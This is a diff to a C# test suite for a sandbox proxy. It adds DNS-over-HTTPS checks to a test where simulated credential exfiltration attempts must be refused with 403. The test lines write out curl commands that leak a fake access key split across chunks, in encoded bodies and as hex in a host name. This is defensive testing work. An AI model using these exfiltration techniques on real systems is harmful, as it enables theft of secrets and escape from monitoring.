@@ -251,7 +251,8 @@ public abstract class SandboxEscapeSuite
     /// credential in a JSON body, a header, a multipart part, a base64 query, a known secret base64-encoded, a gzip
     /// body, a body gzip-encoded twice, a zstd body (RFC 8878, made on the host: the bottle has no zstd tool), a
     /// chunked upload whose chunks split the key, plain HTTP, and hex data in a wildcard route's host name (a CONNECT
-    /// target). Each must get the proxy's 403 with reason <c>Dlp</c> and never reach the upstream. Positive controls
+    /// target). Each must get the proxy's 403 with reason <c>Dlp</c> and never reach the upstream; DNS-over-HTTPS queries
+    /// get 403 <c>DnsOverHttps</c>. Positive controls
     /// over the same routes, encodings and tunnel show that the DLP verdict, not a broken path, is what stops them.
     /// </summary>
     [Fact]
@@ -291,6 +292,8 @@ public abstract class SandboxEscapeSuite
             c chunked -X POST -H 'Transfer-Encoding: chunked' -T - {{https}}/dlp/chunked < <(printf 'note AKIAQ2W3E4'; sleep 0.3; printf 'R5T6Y7U2I3 end')
             c plain --data-binary @/tmp/dlp-body http://dlp.test:{{Home.Upstream.HttpPort}}/dlp/plain
             c host https://{{HexHost}}.wild.test:{{Home.Upstream.HttpsPort}}/dlp/host
+            c doh -H 'Accept: application/dns-json' "{{https}}/resolve?name=example.com&type=A"
+            c doh-get "{{https}}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
             c control --data-binary '{"note":"an ordinary body"}' {{https}}/dlp/control
             c control-gzip -H 'Content-Encoding: gzip' --data-binary @/tmp/dlp-control.gz {{https}}/dlp/control-gzip
             c control-zstd -H 'Content-Encoding: zstd' --data-binary @/tmp/dlp-control.zst {{https}}/dlp/control-zstd
@@ -304,6 +307,12 @@ public abstract class SandboxEscapeSuite
             Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "Dlp", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}{r.StandardError}");
         }
 
+        // DNS-over-HTTPS (RFC 8484 and the JSON API) is refused by policy on any route (PRODUCT.md §1.1).
+        foreach (var name in new[] { "doh", "doh-get" })
+        {
+            Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "DnsOverHttps", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}");
+        }
+
         // The data-bearing host name is refused at CONNECT, before any TLS or upstream contact.
         Assert.True(lines.TryGetValue("host", out var host) && host[1] == "403" && host[2] == "Dlp", $"host: {string.Join(' ', host ?? ["(no line)"])}\n{r.StandardOutput}");
 
@@ -315,7 +324,7 @@ public abstract class SandboxEscapeSuite
         // The controls arrived (encoded bodies forwarded decoded); no attack did.
         Assert.Equal("{\"note\":\"an ordinary body\"}", Home.Upstream.Last("/dlp/control-gzip").BodyText);
         Assert.Equal("{\"note\":\"zstd control\"}", Home.Upstream.Last("/dlp/control-zstd").BodyText);
-        var reached = Home.Upstream.Received.Select(q => q.Path).Where(p => p.StartsWith("/dlp/", StringComparison.Ordinal) && !p.StartsWith("/dlp/control", StringComparison.Ordinal)).ToList();
+        var reached = Home.Upstream.Received.Select(q => q.Path).Where(p => (p.StartsWith("/dlp/", StringComparison.Ordinal) && !p.StartsWith("/dlp/control", StringComparison.Ordinal)) || p is "/resolve" or "/dns-query").ToList();
         Assert.Empty(reached);
     }
 
